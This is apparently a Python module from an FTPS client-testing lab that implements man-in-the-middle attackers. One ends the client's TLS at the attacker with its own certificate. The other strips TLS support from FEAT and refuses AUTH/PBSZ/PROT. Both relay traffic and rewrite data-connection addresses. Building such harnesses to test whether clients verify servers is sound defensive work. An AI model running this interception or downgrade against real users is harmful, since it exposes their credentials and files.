"""Attackers in the middle: TLS, if any, ends at the attacker, and the genuine server behind it does the work.

`Interceptor` shows a certificate of its own; `Stripper` denies TLS support. Both forward the client's commands to the
genuine server and its replies to the client, so a client that does not verify notices nothing.
"""

from __future__ import annotations

import warnings
from collections import deque
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any, ClassVar

from ftps_lab.attackers.data import DataRelay, Listener
from ftps_lab.attackers.endpoint import Endpoint
from ftps_lab.attackers.genuine import Genuine, Reply, Upstream
from ftps_lab.server.handlers import ExplicitControl, ImplicitControl
from ftps_lab.testimony import TRANSFERS
from ftps_lab.wire import addresses

with warnings.catch_warnings():
    warnings.simplefilter("ignore", DeprecationWarning)  # as in ftps_lab.server.data
    from pyftpdlib.ioloop import AsyncChat

if TYPE_CHECKING:
    from ftps_lab.server.channel import Identity
    from ftps_lab.wire.addresses import Address

_SECURITY = frozenset({"AUTH", "PBSZ", "PROT", "CCC"})
"""Commands about the victim's TLS, which ends at the attacker."""


@dataclass(slots=True)
class _Command:
    """A command from the victim, as received.

    Attributes:
        index: Its index in the record.
        data: The data connection that it uses, once it has been forwarded.
    """

    verb: str
    argument: str
    line: bytes
    index: int
    data: DataRelay | None = None

    @property
    def overtakes(self) -> bool:
        """Whether this is ABOR, by pyftpdlib's test: Telnet signals may precede it."""
        return self.verb.endswith("ABOR")


class Relay(ExplicitControl):
    """A control connection whose commands the genuine server executes.

    One command is outstanding at a time, as RFC 959 requires; ABOR overtakes those that wait.
    """

    lab_attack = "intercept"
    genuine: ClassVar[Genuine]
    _in_buffer: list[bytes]

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        self._upstream: Upstream | None = None
        self._greeting: Reply | None = None
        self._may_greet = False
        self._waiting: deque[_Command] = deque()
        self._asked: deque[_Command] = deque()
        self._let_in = False
        self._data: DataRelay | None = None
        self._line = b""
        super().__init__(*args, **kwargs)
        if not self._closed:
            self._upstream = Upstream(self.ioloop, self.genuine, self)

    # From the victim.

    def found_terminator(self) -> None:
        """Keep the line as received: decoding may change it."""
        self._line = b"".join(self._in_buffer)
        super().found_terminator()

    def secure(self, identity: Identity) -> None:
        """Start TLS: it ends here, not where the victim believes."""
        self.lab_log.did("intercept")
        super().secure(identity)

    def secure_connection(self, context: Any) -> None:
        """Reject commands queued after AUTH: they arrived in clear, like any in the same segment as AUTH."""
        super().secure_connection(context)
        if self._waiting and not self._closed:
            self.lab_log.failed(f"{len(self._waiting)} commands in clear after AUTH")
            self._waiting.clear()
            self.handle_failed_ssl_handshake()

    def close(self) -> None:
        """The victim has gone: first read what it had sent, then close everything that belongs to it."""
        self._waiting.clear()
        awaited = self._data is not None and self._data.let_go()
        super().close()
        if self._closed and self._upstream is not None and not awaited:
            self._upstream.close()

    def handle_error(self) -> None:
        """Close after a broken TLS stream: pyftpdlib bypasses `close` there."""
        super().handle_error()
        self.close()

    def lab_greet(self) -> None:
        """Send the genuine server's greeting as soon as it has arrived."""
        self._may_greet = True
        if self._greeting is not None:
            self._pass_on(self._greeting)

    def _lab_obey(self, line: str, cmd: str, arg: str) -> None:
        del line
        self._waiting.append(_Command(cmd, arg, self._line, self.lab_log.last_command))
        self._lab_go_on()

    def _lab_go_on(self) -> None:
        while self._waiting and not self._closed and (not self._asked or self._waiting[0].overtakes):
            command = self._waiting.popleft()
            self.lab_obeyed = command.index
            if command.verb in _SECURITY:
                self.lab_about_tls(command.verb, command.argument)
            else:
                self._lab_forward(command)
            self.lab_obeyed = None

    def lab_about_tls(self, cmd: str, arg: str) -> None:
        """Answer a command about TLS as any server with TLS does."""
        super()._lab_obey(f"{cmd} {arg}".rstrip(), cmd, arg)

    def _lab_forward(self, command: _Command) -> None:
        assert self._upstream is not None
        verb, line = command.verb, command.line
        if verb in {"PORT", "EPRT"}:
            where = (addresses.of_port if verb == "PORT" else addresses.of_eprt)(command.argument)
            peer = self.lab_log.connection.peer[0]
            if where is not None and (":" in where[0]) == (":" in peer):  # the genuine server cannot use any other
                if where[0] != peer or where[1] < 1024:
                    self.respond("501 Not your address for data connections.")
                    return
                line = self._lab_active(verb, where)
        elif verb in TRANSFERS and self._data is not None and self._data.asked(verb, command.argument):
            command.data = self._data
        self._asked.append(command)
        self._upstream.say(line)

    def _lab_active(self, cmd: str, where: Address) -> bytes:
        """Listen for the genuine server's data connection on behalf of the victim at `where`."""
        assert self._upstream is not None

        def called(sock: Any, _peer: Address) -> None:
            relay.join(relay.dial_client(where), Endpoint(self.ioloop, sock, relay))

        listener = Listener(self.ioloop, self._upstream.host, called)
        relay = self._lab_new_data(listener)
        write = addresses.as_port if cmd == "PORT" else addresses.as_eprt
        return f"{cmd} {write(listener.address)}".encode()

    # From the genuine server.

    def greeted(self, reply: Reply) -> None:
        """The genuine server has sent its 220."""
        self._greeting = reply
        if self._may_greet:
            self._pass_on(reply)

    def replied(self, reply: Reply) -> None:
        """Forward the reply to the victim, with anything that would reveal the attacker rewritten."""
        if reply.code == 225 and any(command.overtakes for command in self._asked):
            while not self._asked[0].overtakes:  # a transfer that had not started gets no separate reply
                self._answered(self._asked.popleft(), 426)
        if not self._asked:
            self._pass_on(reply)
            return
        final = reply.code >= 200
        asked = self._asked.popleft() if final else self._asked[0]  # first: if the victim is gone, we close at once
        if not self._closed:
            self.lab_log.replied(reply.code, asked.index, reply.lines[0][4:].decode("utf-8", "backslashreplace"))
            self._pass_on(Reply(reply.code, self._lab_put_right(asked, reply)))
        if final:
            self._answered(asked, reply.code)
            self._lab_go_on()
        elif asked.data is not None:
            asked.data.begins()

    def abandoned(self) -> None:
        """The genuine server has closed: close too."""
        while self._asked:
            self._answered(self._asked.popleft(), 426)
        if not self._closed:
            self.close_when_done()

    def _answered(self, asked: _Command, code: int) -> None:
        if asked.data is not None:
            asked.data.answered(code)
        if self._closed and not self._asked and self._upstream is not None:
            self._upstream.close()  # this was the last outstanding reply

    def _pass_on(self, reply: Reply) -> None:
        if self._closed:
            return
        if reply.code == 220 and not self.lab_log.connection.greeted:
            self.lab_log.greeted()
        AsyncChat.push(self, b"".join(line + b"\r\n" for line in reply.lines))  # FTPHandler.push takes text

    def _lab_put_right(self, asked: _Command, reply: Reply) -> tuple[bytes, ...]:
        """Rewrite the reply's lines for the victim, and follow what they change in our state."""
        if reply.code == 230 and asked.verb in {"USER", "PASS"}:
            self._let_in = True
            self.lab_log.let_in()
        elif reply.code < 400 and asked.verb in {"USER", "REIN"} and self._let_in:
            self._lab_start_anew()
        text = reply.lines[-1].decode("latin-1")
        if reply.code == 227 and (where := addresses.of_227(text)) is not None:
            return (addresses.moved_227(text, self._lab_passive(where[1])).encode("latin-1"),)
        if reply.code == 229 and (port := addresses.of_229(text)) is not None:
            return (addresses.moved_229(text, self._lab_passive(port)[1]).encode("latin-1"),)
        return self.lab_features(reply.lines) if asked.verb == "FEAT" else reply.lines

    def _lab_start_anew(self) -> None:
        """Forget the login and PROT, as the genuine server has, and ask it for PROT again."""
        assert self._upstream is not None
        self._let_in = self._pbsz = self._prot = False
        self._upstream.protect()

    def lab_features(self, lines: tuple[bytes, ...]) -> tuple[bytes, ...]:
        """The lines of the FEAT reply that the victim gets."""
        return lines

    def _lab_passive(self, port: int) -> Address:
        """Listen for the victim's data connection on behalf of the genuine server."""

        def called(sock: Any, peer: Address) -> None:
            relay.join(relay.end_of_client(sock, peer), self.genuine.connect(self.ioloop, relay, port))

        listener = Listener(self.ioloop, str(self.socket.getsockname()[0]), called)
        relay = self._lab_new_data(listener)
        return listener.address

    def _lab_new_data(self, listener: Listener) -> DataRelay:
        if self._data is not None:
            self._data.superseded()
        self._data = DataRelay(self, listener)
        return self._data


class Interceptor(Relay):
    """Explicit FTPS: AUTH is accepted with the attacker's certificate."""


class InterceptorImplicit(Relay, ImplicitControl):
    """Implicit FTPS."""


class Stripper(Relay):
    """Hides AUTH, PBSZ and PROT from FEAT and refuses them, as if the server did not support TLS."""

    lab_attack = "strip-auth"
    attack_reply: ClassVar[int]

    def lab_about_tls(self, cmd: str, _arg: str) -> None:
        """Refuse the command."""
        self.lab_log.did(str(self.attack_reply))
        self.respond(f"{self.attack_reply} {cmd} is not supported.")
        if self.attack_reply == 421:
            self.close_when_done()

    def lab_features(self, lines: tuple[bytes, ...]) -> tuple[bytes, ...]:
        """Remove the lines about TLS."""
        hidden = (b"AUTH", b"PBSZ", b"PROT", b"CCC")
        return tuple(line for line in lines if not line.strip().upper().startswith(hidden))
